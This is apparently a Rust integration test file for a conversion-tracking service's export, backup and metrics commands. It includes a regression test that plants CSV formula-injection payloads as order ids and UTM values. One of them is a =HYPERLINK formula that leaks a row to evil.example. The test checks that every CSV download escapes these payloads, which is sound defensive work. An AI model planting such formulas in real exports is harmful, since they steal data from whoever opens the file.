//! Getting data out: `convapi export` (CSV that round-trips against the order status lookup,
//! NDJSON, sessions, day ranges, errors, and flat memory over 100,000 conversions), formulas
//! neutralised in every CSV (the export's and the dashboard's downloads), `convapi backup` under a
//! concurrent load of conversions, and the database and WAL sizes on `/metrics`.

use std::io::Read;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use crate::common::pipeline_support::*;
use crate::common::*;
use serde_json::{json, Value};

const HOUR: i64 = 3_600_000;

/// Adds `n` processed, attributed conversions to the app's site straight into the database, all
/// on the session of `visitor`'s last pageview: enough rows for memory to show, in a second.
/// In statements of at most 500 rows: they all fall in one cell of the report's rollup, and on
/// PostgreSQL each row's trigger updates that cell, leaving a row version the next update of the
/// same transaction must step over (one statement of 100,000: minutes; decisions §12, migrate).
fn seed_conversions(app: &TestApp, visitor: &str, n: i64) {
    let session = app.pageview(
        visitor,
        "https://shop.example/?utm_source=seed",
        now_ms() - HOUR,
    );
    let at = now_ms() - HOUR;
    let mut inserted = 0;
    for first in (1..=n).step_by(500) {
        let last = (first + 499).min(n);
        inserted += seed_range(app, visitor, &session, at, first, last);
    }
    assert_eq!(inserted as i64, n);
}

/// Conversions `first..=last` of [`seed_conversions`], in one statement; how many it inserted.
fn seed_range(app: &TestApp, visitor: &str, session: &str, at: i64, first: i64, last: i64) -> u64 {
    // SQL both engines read: no printf, each parameter's type clear to PostgreSQL.
    app.execute(
            "WITH RECURSIVE k(n) AS (SELECT CAST(?6 AS BIGINT) UNION ALL SELECT n + 1 FROM k WHERE n < CAST(?1 AS BIGINT))
             INSERT INTO conversions (id, site_id, order_id, type, session_id, visitor_id, value,
                 currency, occurred_at, created_at, source_api, status, attr_model, attr_session_id,
                 attr_source, attr_medium, attr_campaign, reporting_value, reporting_currency,
                 fx_rate, fx_date, processed_at)
             SELECT CAST(?4 AS TEXT) || '-conversion-' || n, ?2,
                 CAST(?4 AS TEXT) || '-order-' || n, 'purchase', ?3, ?4, (n % 1000) || '.50', 'EUR',
                 CAST(?5 AS BIGINT) + n, CAST(?5 AS BIGINT) + n, 1, 'processed', 'last_non_direct', ?3, 'seed', 'referral',
                 'seed-campaign', (n % 1000) || '.50', 'EUR', '1', '2026-11-20', CAST(?5 AS BIGINT) + n
             FROM k",
            &[&last, &app.site.id, &session, &visitor, &at, &first],
        )
}

/// Runs `convapi --db DB ARGS` under `/usr/bin/time`, counting its stdout; returns (exit code,
/// stdout bytes, lines, peak RSS in KiB). Measured by `time` (a small parent) rather than by this
/// process's own wait4: the peak RSS of a child forked from the test binary counts the test
/// binary's pages from before the exec.
fn run_measured(app: &TestApp, args: &[&str]) -> (i32, u64, u64, u64) {
    let rss_file = app.dir.path().join(format!("rss-{}", unique("run")));
    let mut child = Command::new("/usr/bin/time")
        .arg("-f")
        .arg("%M")
        .arg("-o")
        .arg(&rss_file)
        .arg(BIN)
        .arg("--db")
        .arg(&app.db)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("/usr/bin/time (Debian package `time`, see scripts/install-test-deps.sh)");
    let mut stdout = child.stdout.take().unwrap();
    let (mut bytes, mut lines) = (0u64, 0u64);
    let mut buf = vec![0u8; 64 * 1024];
    loop {
        let n = stdout.read(&mut buf).expect("read export");
        if n == 0 {
            break;
        }
        bytes += n as u64;
        lines += buf[..n].iter().filter(|&&b| b == b'\n').count() as u64;
    }
    let code = child.wait().unwrap().code().expect("exited");
    let rss = std::fs::read_to_string(&rss_file).unwrap();
    let rss = rss
        .lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .unwrap_or_else(|| panic!("time's output: {rss:?}"));
    (code, bytes, lines, rss)
}

#[test]
fn exporting_100000_conversions_runs_in_flat_memory() {
    let _heavy = heavy_load();
    let app = TestApp::builder()
        .serve_args(&["--pipeline", "off"])
        .start();
    seed_conversions(&app, "small", 100);
    let (code, _, small_lines, small_rss) =
        run_measured(&app, &["export", "--site", &app.site.id, "--format", "csv"]);
    assert_eq!((code, small_lines), (0, 101));

    seed_conversions(&app, "big", 100_000);
    for format in ["csv", "ndjson"] {
        let started = std::time::Instant::now();
        let (code, bytes, lines, rss) = run_measured(
            &app,
            &["export", "--site", &app.site.id, "--format", format],
        );
        assert_eq!(code, 0);
        let header = u64::from(format == "csv");
        assert_eq!(lines, 100_100 + header, "{format}");
        println!(
            "export --format {format}: 100,100 conversions, {} MiB of output in {:?}; peak RSS {} KiB \
             (100 conversions: {small_rss} KiB)",
            bytes / (1024 * 1024),
            started.elapsed(),
            rss
        );
        // Collecting the rows would take at least the output's size; streaming takes what 100
        // rows take, give or take SQLite's page cache (2 MiB by default) and allocator slack.
        assert!(
            rss < small_rss + 6 * 1024,
            "{format}: peak RSS {rss} KiB against {small_rss} KiB for 100 rows"
        );
        // And what it grew by is a small fraction of the output.
        assert!(
            rss.saturating_sub(small_rss) * 1024 < bytes / 5,
            "{format}: peak RSS {rss} KiB (100 rows: {small_rss} KiB) for {bytes} bytes of output"
        );
    }
}

/// A minimal RFC 4180 reader: quoted fields with doubled quotes and embedded CR/LF; CRLF records.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => {
                assert!(c != '\r' && c != '\n', "bare line break outside quotes");
                field.push(c);
            }
        }
    }
    assert!(
        !quoted && field.is_empty() && record.is_empty(),
        "CSV ends mid-record"
    );
    records
}

/// A JSON value of the status lookup as the CSV writes it: text as is, numbers in their stored
/// decimal text, null as an empty field.
fn cell(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

fn orders_with_awkward_ids(app: &TestApp) -> Vec<String> {
    let now = now_ms();
    app.pageview(
        "v1",
        "https://shop.example/?utm_source=news&utm_medium=email&utm_campaign=bf",
        now - HOUR,
    );
    app.identify("v2", "crm-7", now - HOUR);
    let orders = [
        ("plain-1", "v1", r#"{"value": 19.99, "currency": "EUR"}"#),
        (
            "a,b \"quoted\"\nline2\r\nline3",
            "v1",
            r#"{"value": 5, "currency": "EUR"}"#,
        ),
        ("  spaced  ", "v2", r#"{"value": 0.10, "currency": "EUR"}"#),
        (
            "signup-1",
            "v2",
            r#"{"type": "signup", "clientId": "crm-7"}"#,
        ),
    ];
    let mut ids = Vec::new();
    for (order, visitor, body) in orders {
        // Parsed, not built with `json!`, so that 0.10 keeps its text.
        let body: Value = serde_json::from_str(body).unwrap();
        let mut b = body.as_object().unwrap().clone();
        b.insert("visitorId".into(), json!(visitor));
        b.insert("orderId".into(), json!(order));
        app.post_conversion(&Value::Object(b)).accepted();
        ids.push(order.to_owned());
    }
    for id in &ids {
        await_status(app, id, "processed");
    }
    ids
}

/// Cells a spreadsheet reads as formulas (OWASP "CSV Injection"), each planted below as an order
/// id, a visitor id, a client id and UTM values; the last two start with a tab and a CR.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
    "=1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=2+2",
    "\r=3+3",
];

/// A cell that starts as a formula would: only a number of ours (a count, an amount) may.
fn formula_like(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    let number = !int.is_empty()
        && !frac.is_empty()
        && int.bytes().chain(frac.bytes()).all(|b| b.is_ascii_digit());
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
}

/// Regression: the tracker id is public, so anyone could plant formulas as ids and UTM
/// values, and every CSV download wrote them as live formulas (`=HYPERLINK(...)` leaking the row
/// to evil.example when the merchant clicks it). Each text cell starting like a formula now gets a
/// leading `'`, in the one CSV writer.
#[test]
fn csv_formula_injection_is_neutralised_in_every_csv() {
    let app = TestApp::start();
    let ts = now_ms() - HOUR;
    for (i, f) in FORMULAS.iter().enumerate() {
        let enc: String = form_urlencoded::byte_serialize(f.as_bytes()).collect();
        let url =
            format!("https://shop.example/?utm_source={enc}&utm_medium={enc}&utm_campaign={enc}");
        app.pixel(
            f,
            json!([
                {"type": "pageview", "url": url, "ts": ts + i as i64},
                {"type": "identify", "userId": f, "ts": ts + i as i64},
                {"type": "purchase", "orderId": f, "value": 10, "currency": "EUR", "ts": ts + i as i64},
            ]),
        );
        app.post_conversion(&json!({
            "orderId": format!("{f} api"), "clientId": f, "visitorId": f,
            "value": 20, "currency": "EUR", "occurredAt": iso(ts + i as i64),
        }))
        .accepted();
    }
    for f in FORMULAS {
        await_status(&app, f, "processed");
        await_status(&app, &format!("{f} api"), "processed");
    }
    create_user(
        &app,
        &app.tenant.id,
        "owner@shop.example",
        "a long enough password",
    );
    let d = DashClient::logged_in(&app, "owner@shop.example", "a long enough password");
    let base = format!("/dashboard/sites/{}", app.site.id);
    let fetch = |path: &str| {
        let r = d.get(path);
        assert_eq!(r.status, 200, "{path}: {}", r.text());
        r.text()
    };
    let export = |extra: &[&str]| {
        let mut args = vec!["export", "--site", &app.site.id, "--format", "csv"];
        args.extend_from_slice(extra);
        let run = app.cli(&args);
        assert_eq!(run.code, 0, "{}", run.stderr);
        run.stdout
    };
    // What each CSV must show neutralised: the ids as sent, the report's keys as attribution
    // trimmed them.
    let ids: Vec<String> = FORMULAS.iter().map(|f| format!("'{f}")).collect();
    let keys: Vec<String> = FORMULAS.iter().map(|f| format!("'{}", f.trim())).collect();
    let csvs = [
        (
            "the dashboard's conversions.csv",
            fetch(&format!("{base}/conversions.csv")),
            &ids,
        ),
        ("convapi export", export(&[]), &ids),
        ("convapi export --sessions", export(&["--sessions"]), &ids),
        (
            "report.csv by source",
            fetch(&format!("{base}/report.csv?by=source")),
            &keys,
        ),
        (
            "report.csv by medium",
            fetch(&format!("{base}/report.csv?by=medium")),
            &keys,
        ),
        (
            "report.csv by campaign",
            fetch(&format!("{base}/report.csv?by=campaign")),
            &keys,
        ),
    ];
    for (what, text, expected) in csvs {
        let cells: Vec<String> = parse_csv(&text).into_iter().flatten().collect();
        let live: Vec<&String> = cells.iter().filter(|c| formula_like(c)).collect();
        assert!(
            live.is_empty(),
            "{what} has formula cells {live:?}:\n{text}"
        );
        for e in expected.iter() {
            assert!(cells.contains(e), "{what} lacks {e:?}:\n{text}");
        }
    }
}

#[test]
fn csv_round_trips_against_the_order_status_lookup() {
    let app = TestApp::start();
    let orders = orders_with_awkward_ids(&app);
    let run = app.cli(&["export", "--site", &app.site.id, "--format", "csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.ends_with("\r\n"));
    let records = parse_csv(&run.stdout);
    let header = &records[0];
    assert_eq!(header[0], "eventId");
    assert!(records.iter().all(|r| r.len() == header.len()));
    assert_eq!(records.len(), orders.len() + 1);
    let col = |r: &Vec<String>, name: &str| {
        r[header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}"))]
        .clone()
    };
    for order in &orders {
        let row = records[1..]
            .iter()
            .find(|r| col(r, "orderId") == *order)
            .unwrap_or_else(|| panic!("order {order:?} not exported"));
        let s = status(&app, order);
        for field in [
            "eventId",
            "orderId",
            "type",
            "status",
            "value",
            "currency",
            "reportingValue",
            "reportingCurrency",
            "fxRate",
            "fxDate",
            "occurredAt",
            "processedAt",
            "sessionId",
            "attempts",
            "lastError",
        ] {
            assert_eq!(col(row, field), cell(&s[field]), "{order:?}: {field}");
        }
        for (column, field) in [
            ("attributionModel", "model"),
            ("attributionSessionId", "sessionId"),
            ("attributionSource", "source"),
            ("attributionMedium", "medium"),
            ("attributionCampaign", "campaign"),
        ] {
            assert_eq!(
                col(row, column),
                cell(&s["attribution"][field]),
                "{order:?}: {column}"
            );
        }
        let sources: Vec<String> = s["sources"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap().to_owned())
            .collect();
        assert_eq!(col(row, "sources"), sources.join(";"), "{order:?}");
    }
    let awkward = records
        .iter()
        .find(|r| col(r, "orderId").contains(','))
        .unwrap();
    assert_eq!(col(awkward, "attributionSource"), "news");
    let signup = records
        .iter()
        .find(|r| col(r, "orderId") == "signup-1")
        .unwrap();
    assert_eq!(col(signup, "clientId"), "crm-7");
    assert_eq!(col(signup, "value"), "");
}

#[test]
fn ndjson_lines_are_the_status_lookup_plus_visitor_and_client() {
    let app = TestApp::start();
    let orders = orders_with_awkward_ids(&app);
    let run = app.cli(&["export", "--site", &app.site.id, "--format", "ndjson"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.len(), orders.len());
    for line in lines {
        let mut v: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        let order = v["orderId"].as_str().unwrap().to_owned();
        let visitor = v.as_object_mut().unwrap().remove("visitorId").unwrap();
        let client = v.as_object_mut().unwrap().remove("clientId").unwrap();
        assert!(
            visitor == json!("v1") || visitor == json!("v2"),
            "{visitor}"
        );
        let expected_client = if order == "signup-1" {
            json!("crm-7")
        } else {
            Value::Null
        };
        assert_eq!(client, expected_client, "{order:?}");
        // The lookup's deliveries to ad platforms are not part of the export.
        let mut lookup = status(&app, &order);
        assert_eq!(lookup["deliveries"], json!([]), "{order:?}");
        lookup.as_object_mut().unwrap().remove("deliveries");
        assert_eq!(v, lookup, "{order:?}");
    }
}

#[test]
fn sessions_days_and_errors() {
    let app = TestApp::start();
    let now = now_ms();
    app.pageview(
        "v1",
        "https://shop.example/land?utm_source=news&gclid=g,1",
        now - HOUR,
    );
    app.post_conversion(
        &json!({"visitorId": "v1", "orderId": "o-1", "value": 1, "currency": "EUR"}),
    )
    .accepted();
    let sessions = app.cli(&[
        "export",
        "--site",
        &app.site.id,
        "--format",
        "ndjson",
        "--sessions",
    ]);
    assert_eq!(sessions.code, 0, "{}", sessions.stderr);
    let v: Value = serde_json::from_str(sessions.stdout.trim()).unwrap();
    assert_eq!(v["visitorId"], "v1");
    assert_eq!(
        v["landingUrl"],
        "https://shop.example/land?utm_source=news&gclid=g,1"
    );
    assert_eq!(
        (v["utmSource"].as_str(), v["gclid"].as_str()),
        (Some("news"), Some("g,1"))
    );
    let csv = app.cli(&[
        "export",
        "--site",
        &app.site.id,
        "--format",
        "csv",
        "--sessions",
    ]);
    let records = parse_csv(&csv.stdout);
    assert_eq!(records.len(), 2);
    assert_eq!(records[0][0], "sessionId");
    assert_eq!(records[1][0], v["sessionId"].as_str().unwrap());

    // Inclusive UTC days, as `convapi report`.
    let tomorrow = iso(now + 24 * HOUR)[..10].to_owned();
    let yesterday = iso(now - 24 * HOUR)[..10].to_owned();
    let rows = |from: &str, to: &str| {
        let run = app.cli(&[
            "export",
            "--site",
            &app.site.id,
            "--format",
            "ndjson",
            "--from",
            from,
            "--to",
            to,
        ]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        run.stdout.lines().count()
    };
    let occurred = status(&app, "o-1")["occurredAt"].as_str().unwrap()[..10].to_owned();
    // Another site's order of the same moment stays out of this site's export.
    let other = app.create_site(&app.tenant.id, "Other", &[]);
    app.execute(
        "INSERT INTO conversions (id, site_id, order_id, type, session_id, visitor_id, currency,
                 occurred_at, created_at)
             SELECT 'other-1', ?1, 'o-1', type, session_id, visitor_id, currency, occurred_at,
                 created_at
             FROM conversions WHERE site_id = ?2 AND order_id = 'o-1'",
        &[&other.id, &app.site.id],
    );
    let theirs = app.cli(&["export", "--site", &other.id, "--format", "ndjson"]);
    assert_eq!(theirs.stdout.lines().count(), 1, "{}", theirs.stderr);
    assert_eq!(rows(&occurred, &occurred), 1);
    assert_eq!(rows(&yesterday, &occurred), 1);
    assert_eq!(rows(&tomorrow, &tomorrow), 0);
    assert_eq!(rows("2000-01-01", &yesterday), 0);

    let missing = "00000000-0000-4000-8000-000000000000";
    for (args, code, message) in [
        (
            vec!["--site", missing, "--format", "csv"],
            1,
            format!("no site with id {missing}"),
        ),
        (
            vec!["--site", "nope", "--format", "csv"],
            1,
            "no site with id nope".into(),
        ),
        (
            vec!["--site", &app.site.id, "--format", "xml"],
            2,
            "'xml'".into(),
        ),
        (
            vec![
                "--site",
                &app.site.id,
                "--format",
                "csv",
                "--from",
                "2026-02-30",
            ],
            2,
            "2026-02-30".into(),
        ),
        (vec!["--site", &app.site.id], 2, "--format".into()),
        (
            vec![
                "--site",
                &app.site.id,
                "--format",
                "csv",
                "--from",
                "2026-11-21",
                "--to",
                "2026-11-20",
            ],
            1,
            "--from 2026-11-21 is after --to 2026-11-20".into(),
        ),
    ] {
        let mut all = vec!["export"];
        all.extend(args.iter().copied());
        let run = app.cli(&all);
        assert_eq!(run.code, code, "{all:?}: {}", run.stderr);
        assert!(run.stderr.contains(&message), "{all:?}: {}", run.stderr);
        assert_eq!(run.stdout, "", "{all:?}");
    }
}

#[test]
fn a_backup_under_load_is_consistent_and_holds_every_acknowledged_order() {
    if sqlite_only("`backup` copies a SQLite file (on PostgreSQL it names pg_dump: postgres.rs)") {
        return;
    }
    let _heavy = heavy_load();
    let app = Arc::new(TestApp::start());
    // Large enough to take several backup steps, so commits land between them.
    seed_conversions(&app, "seed", 50_000);
    app.pageview("load", "https://shop.example/", now_ms() - HOUR);
    let acked = Arc::new(Mutex::new(Vec::<String>::new()));
    let stop = Arc::new(AtomicBool::new(false));
    let sender = {
        let (app, acked, stop) = (app.clone(), acked.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut n = 0;
            while !stop.load(Ordering::Relaxed) {
                n += 1;
                let order = format!("load-{n}");
                let r = app.post_conversion(
                    &json!({"visitorId": "load", "orderId": order, "value": 1, "currency": "EUR"}),
                );
                if r.status == 202 {
                    acked.lock().unwrap().push(order);
                }
            }
        })
    };
    while acked.lock().unwrap().len() < 50 {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let before: Vec<String> = acked.lock().unwrap().clone();
    let file = app.dir.path().join("backup.db");
    let done = app.cli_json(&["backup", file.to_str().unwrap(), "--json"]);
    let during = acked.lock().unwrap().len() - before.len();
    stop.store(true, Ordering::Relaxed);
    sender.join().unwrap();
    println!("backup under load: {done}; {during} orders acknowledged while it ran");
    assert!(done["pages"].as_i64().unwrap() > 1024, "{done}");
    assert_eq!(
        done["bytes"].as_u64().unwrap(),
        std::fs::metadata(&file).unwrap().len()
    );

    let copy =
        rusqlite::Connection::open_with_flags(&file, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .unwrap();
    let check: String = copy
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(check, "ok");
    let present = |order: &str| -> bool {
        copy.query_row(
            "SELECT COUNT(*) FROM conversions WHERE site_id = ?1 AND order_id = ?2",
            [&app.site.id, order],
            |r| r.get::<_, i64>(0),
        )
        .unwrap()
            == 1
    };
    let missing: Vec<&String> = before.iter().filter(|o| !present(o)).collect();
    assert!(
        missing.is_empty(),
        "acknowledged before the backup, not in it: {missing:?}"
    );
    let seeded: i64 = copy
        .query_row(
            "SELECT COUNT(*) FROM conversions WHERE order_id LIKE 'seed-order-%'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(seeded, 50_000);
}

#[test]
fn backup_refuses_to_overwrite_without_force() {
    if sqlite_only("`backup` copies a SQLite file (on PostgreSQL it names pg_dump: postgres.rs)") {
        return;
    }
    let app = TestApp::start();
    let file = app.dir.path().join("copy.db");
    std::fs::write(&file, b"precious").unwrap();
    let run = app.cli(&["backup", file.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("use --force"), "{}", run.stderr);
    assert_eq!(std::fs::read(&file).unwrap(), b"precious");

    let run = app.cli(&["backup", file.to_str().unwrap(), "--force"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout
            .starts_with(&format!("wrote {}: ", file.display())),
        "{}",
        run.stdout
    );
    let copy = rusqlite::Connection::open(&file).unwrap();
    let sites: i64 = copy
        .query_row(
            "SELECT COUNT(*) FROM sites WHERE id = ?1",
            [&app.site.id],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(sites, 1);
    // Nothing left beside it.
    let names: Vec<String> = std::fs::read_dir(app.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("partial"))
        .collect();
    assert!(names.is_empty(), "{names:?}");

    let run = app.cli(&["backup", app.db.to_str().unwrap(), "--force"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("is the database itself"),
        "{}",
        run.stderr
    );
}

#[test]
fn metrics_show_database_and_wal_sizes_and_rows_pruned() {
    let app = TestApp::start();
    app.pageview("v", "https://shop.example/", now_ms());
    let size = || std::fs::metadata(&app.db).map_or(0, |m| m.len());
    let db_before = size();
    let text = app.get("/metrics").text();
    let db_after = size();
    let value = |name: &str| -> u64 {
        text.lines()
            .find_map(|l| l.strip_prefix(&format!("{name} ")))
            .unwrap_or_else(|| panic!("no {name} in {text}"))
            .parse()
            .unwrap()
    };
    if sqlite_part("the sizes of the database file and its WAL") {
        // Checkpoints only ever grow the file (nothing here vacuums it).
        let db = value("convapi_database_size_bytes");
        assert!(
            db_before <= db && db <= db_after && db > 0,
            "{db_before} <= {db} <= {db_after}"
        );
        // The pageview's commit went to the WAL, which keeps its size when a checkpoint starts
        // it over.
        assert!(value("convapi_wal_size_bytes") > 0);
        assert!(text.contains("# TYPE convapi_wal_size_bytes gauge"));
    }
    assert_eq!(value("convapi_rows_pruned_total"), 0);
    assert!(text.contains("# TYPE convapi_rows_pruned_total counter"));
}
